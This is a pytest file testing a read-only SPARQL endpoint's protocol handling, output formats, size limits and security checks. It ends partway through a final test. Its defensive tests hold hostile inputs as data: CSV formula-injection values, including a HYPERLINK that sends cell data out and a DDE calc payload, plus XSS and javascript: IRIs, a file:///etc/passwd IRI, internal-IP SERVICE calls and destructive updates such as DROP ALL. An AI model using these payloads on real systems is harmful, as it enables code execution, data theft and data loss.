"""The SPARQL 1.1 Protocol at /sparql and the Graph Store Protocol's read side."""

from __future__ import annotations

import csv
import html
import io
import json
import re
import xml.etree.ElementTree as ET
from collections.abc import Callable

import pyoxigraph as ox
import pytest
from conftest import BROWSER, MakeApp, check_html, isomorphic, jsonld_graph, merged, parse_graphs
from flask import Flask
from flask.testing import FlaskClient
from rdflib import Dataset, Graph, Literal, URIRef
from rdflib.namespace import RDFS
from werkzeug.test import TestResponse

from healthtech_lod.dataset import REPO_ROOT
from healthtech_lod.media_types import BY_KEY
from healthtech_lod.namespaces import DATASET, GRAPH, ID, SD
from healthtech_lod.responses import serialize

COUNT = "SELECT (COUNT(*) AS ?n) WHERE { SELECT DISTINCT ?s ?p ?o WHERE { ?s ?p ?o } }"
FOUNDED = """PREFIX schema: <https://schema.org/>
SELECT ?date WHERE { <https://w3id.org/lu-healthtech/id/voicemed> schema:foundingDate ?date }
ORDER BY ?date"""
REFERENCE = f"CONSTRUCT {{ ?s ?p ?o }} WHERE {{ GRAPH <{GRAPH['reference']}> {{ ?s ?p ?o }} }}"
SRX = "{http://www.w3.org/2005/sparql-results#}"


def bindings(response: TestResponse, var: str) -> list[str]:
    data = response.get_json()
    return [row[var]["value"] for row in data["results"]["bindings"]]


def quad_count(app: Flask) -> int:
    return len(app.extensions["healthtech_lod"].store)


# --- the three ways to send a query -------------------------------------------


def test_get(client: FlaskClient, fixture_union: Graph) -> None:
    response = client.get("/sparql", query_string={"query": COUNT})
    assert response.status_code == 200
    assert bindings(response, "n") == [str(len(fixture_union))]


def test_post_form(client: FlaskClient, fixture_union: Graph) -> None:
    response = client.post("/sparql", data={"query": COUNT})
    assert response.status_code == 200
    assert bindings(response, "n") == [str(len(fixture_union))]


def test_post_sparql_query(client: FlaskClient, fixture_union: Graph) -> None:
    response = client.post(
        "/sparql", data=COUNT.encode(), headers={"Content-Type": "application/sparql-query"}
    )
    assert response.status_code == 200
    assert bindings(response, "n") == [str(len(fixture_union))]


def test_post_of_another_body_is_415(client: FlaskClient) -> None:
    response = client.post("/sparql", data=COUNT, headers={"Content-Type": "text/plain"})
    assert response.status_code == 415


def test_head_and_options(client: FlaskClient) -> None:
    assert client.head("/sparql", query_string={"query": COUNT}).status_code == 200
    assert client.options("/sparql").status_code == 200


# --- results ------------------------------------------------------------------


def test_default_graph_is_the_union_of_named_graphs(client: FlaskClient) -> None:
    response = client.get("/sparql", query_string={"query": FOUNDED})
    assert bindings(response, "date") == ["2020", "2021"]


# --- the dataset of a query (SPARQL 1.1 Query section 13, Protocol section 2.1.4) -------

PLAIN_COUNT = "SELECT (COUNT(*) AS ?n) WHERE { ?s ?p ?o }"
SOURCES_GRAPH = str(GRAPH["sources"])


def count(client: FlaskClient, query: str, **params: object) -> int:
    response = client.get("/sparql", query_string={"query": query, **params})
    assert response.status_code == 200, response.text
    return int(bindings(response, "n")[0])


@pytest.fixture(scope="module")
def real(real_app: Flask) -> FlaskClient:
    return real_app.test_client()


def test_the_default_graph_is_a_set(real: FlaskClient) -> None:
    """A triple stated by several sources is one triple of the default graph: COUNT(*)
    agrees with VoID's void:triples and with the Turtle dump."""
    void = Graph().parse(data=real.get("/dataset.ttl").data, format="turtle")
    triples = int(void.value(URIRef(str(DATASET)), URIRef("http://rdfs.org/ns/void#triples")))
    with real.get("/download/healthtech-lod.ttl") as response:
        dump = Graph().parse(data=response.get_data(), format="turtle")
    assert count(real, PLAIN_COUNT) == triples == len(dump)
    quads = "SELECT (COUNT(*) AS ?n) WHERE { GRAPH ?g { ?s ?p ?o } }"
    assert count(real, quads) > triples  # the sources do repeat one another
    bodies = "PREFIX lht: <https://w3id.org/lu-healthtech/def#> " + (
        "SELECT (COUNT(?s) AS ?n) WHERE { ?s a lht:PublicBody }"
    )
    distinct = bodies.replace("COUNT(?s)", "COUNT(DISTINCT ?s)")
    assert count(real, bodies) == count(real, distinct)


def test_from_defines_the_default_graph(real: FlaskClient, real_app: Flask) -> None:
    store = real_app.extensions["healthtech_lod"].store
    in_sources = len(list(store.quads_for_pattern(None, None, None, ox.NamedNode(SOURCES_GRAPH))))
    from_sources = f"SELECT (COUNT(*) AS ?n) FROM <{SOURCES_GRAPH}> WHERE {{ ?s ?p ?o }}"
    assert count(real, from_sources) == in_sources
    nowhere = "SELECT (COUNT(*) AS ?n) FROM <http://example.org/none> WHERE { ?s ?p ?o }"
    assert count(real, nowhere) == 0


def test_from_named_defines_the_named_graphs(real: FlaskClient) -> None:
    query = (
        f"SELECT (COUNT(DISTINCT ?g) AS ?n) FROM NAMED <{SOURCES_GRAPH}> "
        "WHERE { GRAPH ?g { ?s ?p ?o } }"
    )
    assert count(real, query) == 1
    # FROM NAMED alone leaves the default graph empty.
    assert count(real, PLAIN_COUNT.replace("WHERE", f"FROM NAMED <{SOURCES_GRAPH}> WHERE")) == 0


def test_protocol_parameters_override_the_querys_dataset(real: FlaskClient) -> None:
    nowhere = "SELECT (COUNT(*) AS ?n) FROM <http://example.org/none> WHERE { ?s ?p ?o }"
    assert count(real, nowhere, **{"default-graph-uri": SOURCES_GRAPH}) > 0
    assert count(real, PLAIN_COUNT, **{"named-graph-uri": SOURCES_GRAPH}) == 0


def test_graph_keeps_provenance(client: FlaskClient) -> None:
    query = "SELECT DISTINCT ?g WHERE { GRAPH ?g { ?s ?p ?o } } ORDER BY ?g"
    graphs = bindings(client.get("/sparql", query_string={"query": query}), "g")
    names = ["alpha", "beta", "ontology", "reference", "sources"]
    assert graphs == [str(GRAPH[name]) for name in names]


def test_select_as_csv_tsv_and_xml(client: FlaskClient) -> None:
    def ask(fmt: str) -> str:
        return client.get("/sparql", query_string={"query": FOUNDED, "format": fmt}).text

    rows = list(csv.reader(io.StringIO(ask("csv"))))
    assert rows == [["date"], ["2020"], ["2021"]]
    tsv = ask("tsv").splitlines()
    assert tsv[0] == "?date"
    assert len(tsv) == 3 and "2020" in tsv[1] and "XMLSchema#gYear" in tsv[1]
    root = ET.fromstring(ask("xml"))
    assert [e.text for e in root.iter(f"{SRX}literal")] == ["2020", "2021"]


#: Values a spreadsheet would run as formulas, and values that only look like it.
FORMULAS = [
    '=HYPERLINK("http://example.org/?"&A1,"click")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "-2+3",
    "\tx",
    "\r=1",
]
HARMLESS = ["-5", "+1", "2.5e-3", "plain", "a=b"]


def values_query(values: list[str]) -> str:
    literals = " ".join(str(ox.Literal(value)) for value in values)
    return f"SELECT ?v WHERE {{ VALUES ?v {{ {literals} }} }}"


def test_csv_answers_keep_every_value_as_it_is(client: FlaskClient) -> None:
    """SPARQL 1.1 CSV is the data: a SPARQL client reads back the exact values, those
    that look like formulas too."""
    query = values_query(FORMULAS + HARMLESS)
    answer = client.get("/sparql", query_string={"query": query, "format": "csv"})
    assert answer.mimetype == "text/csv"
    assert "Content-Disposition" not in answer.headers
    rows = list(csv.reader(io.StringIO(answer.text, newline="")))
    assert rows == [["v"], *([value] for value in FORMULAS + HARMLESS)]


def test_csv_for_a_spreadsheet_turns_formulas_into_text(client: FlaskClient) -> None:
    query = values_query(FORMULAS + HARMLESS)
    params = {"query": query, "format": "csv", "spreadsheet": "true"}
    answer = client.get("/sparql", query_string=params)
    assert answer.status_code == 200 and answer.mimetype == "text/csv"
    assert answer.headers["Content-Disposition"] == 'attachment; filename="results.csv"'
    rows = list(csv.reader(io.StringIO(answer.text, newline="")))
    assert rows == [["v"], *(["'" + value] for value in FORMULAS), *([v] for v in HARMLESS)]
    faithful = client.get("/sparql", query_string={"query": query, "format": "csv"})
    assert faithful.headers["ETag"] != answer.headers["ETag"], "two answers, two ETags"


def test_the_results_page_downloads_csv_for_a_spreadsheet(client: FlaskClient) -> None:
    query = values_query(FORMULAS)
    page = client.get("/sparql", query_string={"query": query}, headers={"Accept": BROWSER})
    link = html.unescape(re.findall(r'<a href="([^"]+)">CSV</a>', page.text)[0])
    download = client.get(link)
    assert download.headers["Content-Disposition"] == 'attachment; filename="results.csv"'
    assert "\n'=HYPERLINK(" in download.text.replace('"', "")


def test_ask(client: FlaskClient) -> None:
    response = client.get("/sparql", query_string={"query": "ASK { ?s ?p ?o }"})
    assert response.get_json() == {"head": {}, "boolean": True}
    csv_answer = client.get("/sparql", query_string={"query": "ASK {}", "format": "csv"})
    assert csv_answer.text.strip() == "true"


@pytest.mark.parametrize(
    ("accept", "rdflib_format"),
    [
        (None, "turtle"),
        ("text/turtle", "turtle"),
        ("application/n-triples", "nt"),
        ("application/rdf+xml", "xml"),
        ("application/trig", "trig"),
        ("application/n-quads", "nquads"),
        ("application/ld+json", None),
    ],
)
def test_construct_in_every_rdf_format(
    client: FlaskClient, fixture_dataset: Dataset, accept: str | None, rdflib_format: str | None
) -> None:
    response = client.get(
        "/sparql", query_string={"query": REFERENCE}, headers={"Accept": accept} if accept else {}
    )
    assert response.status_code == 200
    if rdflib_format is None:
        graph = jsonld_graph(client, response.data)
    elif rdflib_format in ("trig", "nquads"):
        graph = merged(parse_graphs(response.data, ox.RdfFormat.from_media_type(accept)))
    else:
        graph = Graph().parse(data=response.data, format=rdflib_format)
    assert isomorphic(graph, fixture_dataset.graph(GRAPH["reference"]))


def test_describe(client: FlaskClient) -> None:
    response = client.get("/sparql", query_string={"query": f"DESCRIBE <{ID['voicemed']}>"})
    graph = Graph().parse(data=response.data, format="turtle")
    assert (ID["voicemed"], RDFS.label, Literal("VoiceMed", lang="en")) in graph


def test_default_graph_uri(client: FlaskClient) -> None:
    query = {"query": FOUNDED, "default-graph-uri": str(GRAPH["beta"])}
    assert bindings(client.get("/sparql", query_string=query), "date") == ["2021"]


def test_named_graph_uri(client: FlaskClient) -> None:
    query = "SELECT DISTINCT ?g WHERE { GRAPH ?g { ?s ?p ?o } }"
    params = {"query": query, "named-graph-uri": [str(GRAPH["alpha"]), str(GRAPH["beta"])]}
    graphs = bindings(client.get("/sparql", query_string=params), "g")
    assert sorted(graphs) == [str(GRAPH["alpha"]), str(GRAPH["beta"])]
    only_named = {"query": COUNT, "named-graph-uri": str(GRAPH["alpha"])}
    assert bindings(client.get("/sparql", query_string=only_named), "n") == ["0"]


def test_dataset_parameters_in_a_post_form(client: FlaskClient) -> None:
    data = {"query": FOUNDED, "default-graph-uri": str(GRAPH["alpha"])}
    assert bindings(client.post("/sparql", data=data), "date") == ["2020"]


def test_invalid_graph_iri_is_400(client: FlaskClient) -> None:
    response = client.get("/sparql", query_string={"query": COUNT, "default-graph-uri": "a b"})
    assert response.status_code == 400
    assert "default-graph-uri" in response.text


# --- bad queries ----------------------------------------------------------------


@pytest.mark.parametrize(
    "query",
    ["SELECT * WHERE { ?s ?p }", "SELEKT * WHERE { ?s ?p ?o }", "SELECT * WHERE { ?s ?p ?o"],
)
def test_malformed_query_is_400_with_message_and_position(client: FlaskClient, query: str) -> None:
    response = client.get(
        "/sparql", query_string={"query": query}, headers={"Accept": "application/json"}
    )
    assert response.status_code == 400
    error = response.get_json()["error"]
    assert error["status"] == 400
    assert error["title"] == "Bad Request"
    assert error["detail"].startswith("The query does not parse:")
    assert re.search(r"\d+:\d+", error["detail"]), "the parser's position is missing"


def test_relative_iris_resolve_against_the_endpoint(client: FlaskClient) -> None:
    """A relative IRI is resolved against the endpoint's IRI (.../sparql), so
    ``<id/voicemed>`` names the entity; a BASE of the query's own wins."""

    def objects(query: str) -> set[str]:
        response = client.get(
            "/sparql",
            query_string={"query": query},
            headers={"Accept": "application/sparql-results+json"},
        )
        assert response.status_code == 200, response.text
        return {row["o"]["value"] for row in response.get_json()["results"]["bindings"]}

    full = objects("SELECT ?o WHERE { <https://w3id.org/lu-healthtech/id/voicemed> ?p ?o }")
    assert full
    assert objects("SELECT ?o WHERE { <id/voicemed> ?p ?o }") == full
    assert objects("BASE <https://example.org/> SELECT ?o WHERE { <id/voicemed> ?p ?o }") == set()
    constructed = client.get(
        "/sparql",
        query_string={"query": "CONSTRUCT { <s> <p> 1 } WHERE {}"},
        headers={"Accept": "application/n-triples"},
    ).text
    assert "<https://w3id.org/lu-healthtech/s> <https://w3id.org/lu-healthtech/p>" in constructed


def test_undeclared_prefix_is_400(client: FlaskClient) -> None:
    response = client.get("/sparql", query_string={"query": "SELECT * WHERE { ?s ex:p ?o }"})
    assert response.status_code == 400
    assert "ex" in response.text


UPDATES = [
    'INSERT DATA { <http://example.org/a> <http://example.org/b> "c" }',
    "DELETE DATA { <https://w3id.org/lu-healthtech/id/voicemed> a <https://schema.org/Thing> }",
    "DELETE WHERE { ?s ?p ?o }",
    "INSERT { ?s a <http://example.org/C> } WHERE { ?s ?p ?o }",
    "DELETE { ?s ?p ?o } INSERT { ?s ?p 1 } WHERE { ?s ?p ?o }",
    f"WITH <{GRAPH['alpha']}> DELETE {{ ?s ?p ?o }} WHERE {{ ?s ?p ?o }}",
    "LOAD <http://example.org/data.ttl>",
    "LOAD SILENT <http://example.org/data.ttl> INTO GRAPH <http://example.org/g>",
    "CLEAR ALL",
    f"CLEAR GRAPH <{GRAPH['alpha']}>",
    "CLEAR DEFAULT",
    "DROP ALL",
    f"DROP GRAPH <{GRAPH['beta']}>",
    "CREATE GRAPH <http://example.org/g>",
    f"ADD <{GRAPH['alpha']}> TO <{GRAPH['beta']}>",
    f"MOVE <{GRAPH['alpha']}> TO <{GRAPH['beta']}>",
    f"COPY <{GRAPH['alpha']}> TO <{GRAPH['beta']}>",
    "PREFIX ex: <http://example.org/>\n# a comment\nINSERT DATA { ex:a ex:b ex:c }",
    "BASE <http://example.org/> insert data { <a> <b> <c> }",
]


@pytest.mark.parametrize("update", UPDATES)
@pytest.mark.parametrize("how", ["get", "form", "body"])
def test_updates_are_refused_and_change_nothing(
    app: Flask, client: FlaskClient, update: str, how: str
) -> None:
    before = quad_count(app)
    if how == "get":
        response = client.get("/sparql", query_string={"query": update})
    elif how == "form":
        response = client.post("/sparql", data={"query": update})
    else:
        headers = {"Content-Type": "application/sparql-query"}
        response = client.post("/sparql", data=update.encode(), headers=headers)
    assert response.status_code == 400
    assert "read-only" in response.text
    assert quad_count(app) == before


def test_update_parameter_and_sparql_update_body_are_refused(
    app: Flask, client: FlaskClient
) -> None:
    before = quad_count(app)
    form = client.post("/sparql", data={"update": UPDATES[0]})
    headers = {"Content-Type": "application/sparql-update"}
    body = client.post("/sparql", data=UPDATES[0].encode(), headers=headers)
    assert (form.status_code, body.status_code) == (400, 400)
    assert "read-only" in form.text and "read-only" in body.text
    assert quad_count(app) == before


@pytest.mark.parametrize(
    ("params", "message"),
    [
        ({"query": "   "}, "empty"),
        ({"query": ["ASK {}", "ASK {}"]}, "exactly one"),
    ],
)
def test_bad_requests_are_400(client: FlaskClient, params: dict[str, object], message: str) -> None:
    response = client.get("/sparql", query_string=params)
    assert response.status_code == 400
    assert message in response.text


@pytest.mark.parametrize("how", ["get", "form", "body"])
def test_a_query_over_the_length_limit_is_413(make_app: MakeApp, how: str) -> None:
    client = make_app(MAX_QUERY_LENGTH=100).test_client()
    query = "ASK {} #" + "x" * 100
    if how == "get":
        response = client.get("/sparql", query_string={"query": query})
    elif how == "form":
        response = client.post("/sparql", data={"query": query})
    else:
        headers = {"Content-Type": "application/sparql-query"}
        response = client.post("/sparql", data=query.encode(), headers=headers)
    assert response.status_code == 413
    assert "108 characters long; the limit is 100" in response.text


def nested(kind: str, depth: int) -> str:
    """A query whose brackets nest ``depth`` deep: parentheses in a FILTER, groups of
    braces, or blank nodes in square brackets."""
    inner = depth - 1  # under the WHERE clause's braces
    if kind == "(":
        return "ASK { FILTER" + "(" * inner + "true" + ")" * inner + " }"
    if kind == "{":
        return "ASK " + "{" * depth + "}" * depth
    return "ASK { <s> <p> " + "[<p>" * inner + "1" + "]" * inner + " }"


def send(client: FlaskClient, how: str, query: str) -> TestResponse:
    if how == "get":
        return client.get("/sparql", query_string={"query": query})
    if how == "form":
        return client.post("/sparql", data={"query": query})
    headers = {"Content-Type": "application/sparql-query"}
    return client.post("/sparql", data=query.encode(), headers=headers)


@pytest.mark.parametrize("how", ["get", "form", "body"])
@pytest.mark.parametrize(("kind", "depth"), [("(", 5000), ("{", 5000), ("[", 3000)])
def test_brackets_nested_past_the_limit_are_400_and_no_worker_dies(
    app: Flask, kind: str, depth: int, how: str
) -> None:
    client = app.test_client()
    executor = app.extensions["healthtech_lod.executor"]
    assert send(client, how, "ASK {}").status_code == 200  # the query workers are up
    before = executor.pids
    refused = send(client, how, nested(kind, depth))
    assert refused.status_code == 400
    assert f"nests brackets {depth} deep; the limit is 64" in refused.text
    at_the_limit = send(client, how, nested(kind, 64) + f" # {how}")  # not from the cache
    assert at_the_limit.status_code == 200, at_the_limit.text
    assert executor.pids == before, "every query worker is the one that was there"


def test_max_query_nesting_counts_only_brackets_outside_strings_iris_and_comments(
    make_app: MakeApp,
) -> None:
    client = make_app(MAX_QUERY_NESTING=3).test_client()
    assert send(client, "get", "ASK { { { } } }").status_code == 200
    refused = send(client, "get", "ASK { { { { } } } }")
    assert refused.status_code == 400
    assert "nests brackets 4 deep; the limit is 3" in refused.text
    hidden = 'ASK { ?s <http://example.org/a((b> ?o FILTER(?o != "((((") } # {{{{'
    assert send(client, "form", hidden).status_code == 200


def test_service_is_refused(client: FlaskClient) -> None:
    query = "SELECT * WHERE { SERVICE <http://127.0.0.1:1/sparql> { ?s ?p ?o } }"
    response = client.get("/sparql", query_string={"query": query})
    assert response.status_code == 400
    assert "disabled" in response.text
    assert "<http://127.0.0.1:1/sparql>" in response.text


@pytest.mark.parametrize(
    "query",
    [
        "SELECT * WHERE { SERVICESILENT <http://10.0.0.1/sparql> { ?s ?p ?o } }",
        "PREFIX e: <http://10.0.0.1/>\nSELECT * WHERE { service e:sparql { ?s ?p ?o } }",
        "SELECT * WHERE { SERVICE ?endpoint { ?s ?p ?o } }",
    ],
)
def test_disguised_service_is_refused(client: FlaskClient, query: str) -> None:
    response = client.get("/sparql", query_string={"query": query})
    assert response.status_code == 400
    assert "Federated query (SERVICE) is disabled" in response.text


def test_only_allowed_service_endpoints_pass(make_app: MakeApp) -> None:
    allowed = "https://query.wikidata.org/sparql"
    client = make_app(SERVICE_ALLOWED_ENDPOINTS=[allowed]).test_client()
    query = "SELECT * WHERE { SERVICE <http://10.0.0.1/sparql> { ?s ?p ?o } }"
    response = client.get("/sparql", query_string={"query": query})
    assert response.status_code == 400
    assert f"SERVICE may only call <{allowed}>" in response.text


@pytest.mark.parametrize(
    "query",
    [
        'SELECT * WHERE { ?s ?p "SERVICE" }',
        "SELECT * WHERE { ?s <http://example.org/SERVICE> ?o }",
        "PREFIX ex: <http://example.org/>\nSELECT ?service WHERE { ?service ex:service ?o }",
        "# SERVICE <http://example.org/>\nASK {}",
    ],
)
def test_the_word_service_elsewhere_is_fine(client: FlaskClient, query: str) -> None:
    assert client.get("/sparql", query_string={"query": query}).status_code == 200


# --- without a query --------------------------------------------------------------


def test_service_description(client: FlaskClient) -> None:
    response = client.get("/sparql")
    assert response.mimetype == "text/turtle"
    graph = Graph().parse(data=response.data, format="turtle")
    service = next(graph.subjects(SD.endpoint, URIRef("http://localhost/sparql")))
    assert (service, SD.supportedLanguage, SD.SPARQL11Query) in graph
    assert (service, SD.feature, SD.UnionDefaultGraph) in graph
    formats = set(graph.objects(service, SD.resultFormat))
    assert URIRef("http://www.w3.org/ns/formats/SPARQL_Results_CSV") in formats
    dataset = graph.value(service, SD.defaultDataset)
    default = graph.value(dataset, SD.defaultGraph)
    comment = Literal(
        "the default graph is the set union of all named graphs: each triple once", lang="en"
    )
    assert (default, RDFS.comment, comment) in graph
    names = {graph.value(n, SD.name) for n in graph.objects(dataset, SD.namedGraph)}
    assert names == {GRAPH[n] for n in ("alpha", "beta", "ontology", "reference", "sources")}


def test_service_description_as_json_ld(client: FlaskClient) -> None:
    turtle = Graph().parse(data=client.get("/sparql").data, format="turtle")
    response = client.get("/sparql", headers={"Accept": "application/json"})
    assert response.mimetype == "application/ld+json"
    assert isomorphic(jsonld_graph(client, response.data), turtle)


def test_browser_gets_the_query_form(client: FlaskClient) -> None:
    response = client.get("/sparql", headers={"Accept": BROWSER})
    assert response.mimetype == "text/html"
    assert '<textarea id="query" name="query"' in response.text
    assert 'action="/sparql"' in response.text


# --- Graph Store Protocol -----------------------------------------------------------


def test_named_graph(client: FlaskClient, fixture_dataset: Dataset) -> None:
    """The graph's statements, and a few about the graph itself (licence, dataset, date)."""
    name = GRAPH["alpha"]
    response = client.get("/rdf-graphs", query_string={"graph": str(name)})
    assert response.mimetype == "text/turtle"
    graph = Graph().parse(data=response.data, format="turtle")
    about = Graph()
    for p, o in graph.predicate_objects(name):
        about.add((name, p, o))
    assert {p.fragment or p.rsplit("/", 1)[-1] for p in about.predicates()} == {
        "license",
        "inDataset",
        "modified",
    }
    assert isomorphic(graph - about, fixture_dataset.graph(name))


def test_named_graph_in_trig_keeps_its_name(client: FlaskClient, fixture_dataset: Dataset) -> None:
    """In a dataset format the graph keeps its name, and the default graph holds its
    statements too, for clients that read only the default graph."""
    name = GRAPH["beta"]
    params = {"graph": str(name), "format": "trig"}
    graphs = parse_graphs(client.get("/rdf-graphs", query_string=params).data, ox.RdfFormat.TRIG)
    assert sorted(graphs) == ["", str(name)]
    assert isomorphic(graphs[str(name)], fixture_dataset.graph(name))
    assert set(graphs[""]) >= set(graphs[str(name)])


def test_default_graph_is_the_union(client: FlaskClient, fixture_union: Graph) -> None:
    response = client.get("/rdf-graphs?default", headers={"Accept": "application/n-triples"})
    assert isomorphic(Graph().parse(data=response.data, format="nt"), fixture_union)


@pytest.mark.parametrize(
    ("query", "status"),
    [
        ({"graph": "https://w3id.org/lu-healthtech/graph/nothing"}, 404),
        ({"graph": "not an iri"}, 400),
        ({}, 400),
    ],
)
def test_graph_store_errors(client: FlaskClient, query: dict[str, str], status: int) -> None:
    assert client.get("/rdf-graphs", query_string=query).status_code == status


# --- the results page for browsers ---------------------------------------------------------


def test_browser_gets_results_as_a_table_linking_entities(client: FlaskClient) -> None:
    query = "SELECT ?thing ?label WHERE { ?thing rdfs:label ?label } ORDER BY ?label"
    query = "PREFIX rdfs: <http://www.w3.org/2000/01/rdf-schema#>\n" + query
    response = client.get("/sparql", query_string={"query": query}, headers={"Accept": BROWSER})
    assert response.status_code == 200 and response.mimetype == "text/html"
    check_html(response.text)
    assert '<th scope="col">?thing</th>' in response.text
    assert 'href="http://localhost/id/voicemed"' in response.text
    assert "VoiceMed" in response.text and "@fr" in response.text
    assert "format=csv" in response.text and "format=json" in response.text
    assert "Accept" in response.vary


def test_results_page_download_links_give_csv_and_json(client: FlaskClient) -> None:
    query = "SELECT (COUNT(*) AS ?n) WHERE { ?s ?p ?o }"
    csv_response = client.get("/sparql", query_string={"query": query, "format": "csv"})
    assert csv_response.mimetype == "text/csv"
    json_response = client.get("/sparql", query_string={"query": query, "format": "json"})
    assert json_response.mimetype == "application/sparql-results+json"


def test_ask_answer_on_the_page(client: FlaskClient) -> None:
    response = client.get("/sparql", query_string={"query": "ASK {}"}, headers={"Accept": BROWSER})
    assert "The answer is <strong>yes (true)</strong>" in response.text


def test_query_error_is_shown_next_to_the_query(client: FlaskClient) -> None:
    query = "SELECT ?x WHERE { ?x ?y }"
    response = client.get("/sparql", query_string={"query": query}, headers={"Accept": BROWSER})
    assert response.status_code == 400 and response.mimetype == "text/html"
    check_html(response.text)
    assert 'id="query-error"' in response.text
    assert "1:" in response.text  # the parser's line:column
    assert "SELECT ?x WHERE { ?x ?y }</textarea>" in response.text


def test_query_text_and_results_are_escaped(client: FlaskClient) -> None:
    query = 'SELECT ?x WHERE { BIND ("<script>alert(1)</script>" AS ?x) } # </textarea><b>'
    response = client.get("/sparql", query_string={"query": query}, headers={"Accept": BROWSER})
    assert "<script>alert(1)" not in response.text
    assert "</textarea><b>" not in response.text
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in response.text


@pytest.mark.parametrize(
    "iri",
    [
        "javascript:alert(1)",
        "JAVASCRIPT:alert(1)",
        "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
        "vbscript:msgbox(1)",
        "file:///etc/passwd",
    ],
)
def test_results_link_only_http_iris(client: FlaskClient, iri: str) -> None:
    for query in (
        f'SELECT (IRI("{iri}") AS ?x) (<https://example.org/a> AS ?y) {{}}',
        f"CONSTRUCT {{ <{iri}> <{iri}> <https://example.org/a> }} WHERE {{}}",
    ):
        page = client.get("/sparql", query_string={"query": query}, headers={"Accept": BROWSER})
        assert page.status_code == 200
        hrefs = check_html(page.text).hrefs
        assert not [h for h in hrefs if not h.startswith(("http://", "https://", "/"))], hrefs
        assert f"<td>{html.escape(iri)}</td>" in page.text, "shown as text"
        assert 'href="https://example.org/a"' in page.text, "an http(s) IRI is a link"


def test_html_table_stops_at_its_row_limit(make_app: MakeApp) -> None:
    client = make_app(HTML_MAX_ROWS=2).test_client()
    query = "SELECT ?s WHERE { ?s ?p ?o }"
    response = client.get("/sparql", query_string={"query": query}, headers={"Accept": BROWSER})
    assert response.text.count("<tr><td>") == 2
    assert "the table stops here" in response.text


def test_gallery_lists_every_example_and_each_runs_in_one_click(
    real_client: FlaskClient,
) -> None:
    page = real_client.get("/sparql", headers={"Accept": BROWSER})
    check_html(page.text)
    count = real_client.get(
        "/sparql",
        query_string={
            "query": "PREFIX sh: <http://www.w3.org/ns/shacl#> "
            "SELECT (COUNT(DISTINCT ?q) AS ?n) WHERE { ?q a sh:SPARQLExecutable }",
            "format": "csv",
        },
    ).text.split()[1]
    links = re.findall(r'<dt><a href="([^"]+)">', page.text)
    assert len(links) == int(count) >= 10
    assert "The 16 pioneers of 2026" in page.text
    for link in links:
        response = real_client.get(html.unescape(link), headers={"Accept": BROWSER})
        assert response.status_code == 200, link
        assert '<table class="results">' in response.text


def test_gallery_speaks_french(make_app: MakeApp) -> None:
    client = make_app(DATA_ROOT=str(REPO_ROOT), LANGUAGES=["fr", "en"]).test_client()
    page = client.get("/sparql", headers={"Accept": BROWSER})
    assert "Les 16 pionniers de 2026" in page.text


# --- limits ---------------------------------------------------------------------------

RUNAWAY = "SELECT (COUNT(*) AS ?n) WHERE { ?a ?b ?c . ?d ?e ?f . ?g ?h ?i . ?j ?k ?l . ?m ?n2 ?o }"


def test_answers_stop_at_max_result_rows_and_say_so(make_app: MakeApp) -> None:
    client = make_app(MAX_RESULT_ROWS=2).test_client()
    cut = client.get("/sparql", query_string={"query": "SELECT * WHERE { ?s ?p ?o }"})
    assert len(cut.get_json()["results"]["bindings"]) == 2
    assert cut.headers["SPARQL-Results-Truncated"] == "rows=2"
    construct = client.get(
        "/sparql",
        query_string={"query": "CONSTRUCT WHERE { ?s ?p ?o }"},
        headers={"Accept": "application/n-triples"},
    )
    assert len(construct.text.strip().splitlines()) == 2
    assert construct.headers["SPARQL-Results-Truncated"] == "rows=2"
    whole = client.get("/sparql", query_string={"query": "SELECT * WHERE { ?s ?p ?o } LIMIT 2"})
    assert "SPARQL-Results-Truncated" not in whole.headers


#: One value of 16 793 600 characters, just over 16 MiB: 1 025 doubled 14 times.
HUGE_VALUE = (
    'SELECT (STRLEN(?v14) AS ?n) ?v14 WHERE { BIND("'
    + "x" * 1025
    + '" AS ?v0) '
    + " ".join(f"BIND(CONCAT(?v{i}, ?v{i}) AS ?v{i + 1})" for i in range(14))
    + " }"
)


def test_a_value_over_16_mib_is_answered_whole(client: FlaskClient) -> None:
    """Oxigraph's TSV and JSON readers stop at 16 MiB a line: when answers were
    written from TSV read back, such a value was a 500 (then a 406)."""
    for result_format in ("json", "tsv"):
        answer = client.get("/sparql", query_string={"query": HUGE_VALUE, "format": result_format})
        assert answer.status_code == 200, answer.text[:300]
        assert b"x" * 16_793_600 in answer.data
    rows = json.loads(
        client.get("/sparql", query_string={"query": HUGE_VALUE, "format": "json"}).data
    )["results"]["bindings"]
    assert rows[0]["n"]["value"] == "16793600"


CUT = 2000
EVERYTHING = "SELECT * WHERE { ?s ?p ?o }"


def srx_rows(data: bytes) -> int:
    parsed = ox.parse_query_results(data, format=ox.QueryResultsFormat.XML)
    assert isinstance(parsed, ox.QuerySolutions)
    return len(list(parsed))


@pytest.mark.parametrize(
    ("query", "accept", "read"),
    [
        (
            EVERYTHING,
            "application/sparql-results+json",
            lambda c, d: len(json.loads(d)["results"]["bindings"]),
        ),
        (EVERYTHING, "application/sparql-results+xml", lambda c, d: srx_rows(d)),
        (EVERYTHING, "text/csv", lambda c, d: len(list(csv.reader(io.StringIO(d.decode())))) - 1),
        (EVERYTHING, "text/tab-separated-values", lambda c, d: len(d.decode().splitlines()) - 1),
        (
            "CONSTRUCT WHERE { ?s ?p ?o }",
            "text/turtle",
            lambda c, d: len(Graph().parse(data=d, format="turtle")),
        ),
        (
            "CONSTRUCT WHERE { ?s ?p ?o }",
            "application/ld+json",
            lambda c, d: len(jsonld_graph(c, d)),
        ),
        (
            "CONSTRUCT WHERE { ?s ?p ?o }",
            "application/rdf+xml",
            lambda c, d: len(Graph().parse(data=d, format="xml")),
        ),
    ],
)
def test_answers_stop_at_max_answer_bytes_and_say_so(
    make_app: MakeApp, query: str, accept: str, read: Callable[[FlaskClient, bytes], int]
) -> None:
    """Cut where the next solution or triple would pass MAX_ANSWER_BYTES: still a
    document of its format, holding whole solutions or triples, and saying so."""
    client = make_app(MAX_ANSWER_BYTES=CUT).test_client()
    cut = client.get("/sparql", query_string={"query": query}, headers={"Accept": accept})
    assert cut.status_code == 200 and cut.mimetype == accept
    assert cut.headers["SPARQL-Results-Truncated"] == f"bytes={CUT}"
    assert 0 < len(cut.data) <= CUT
    assert read(client, cut.data) > 0
    small = query.replace("?o }", "?o } LIMIT 1")
    whole = client.get("/sparql", query_string={"query": small}, headers={"Accept": accept})
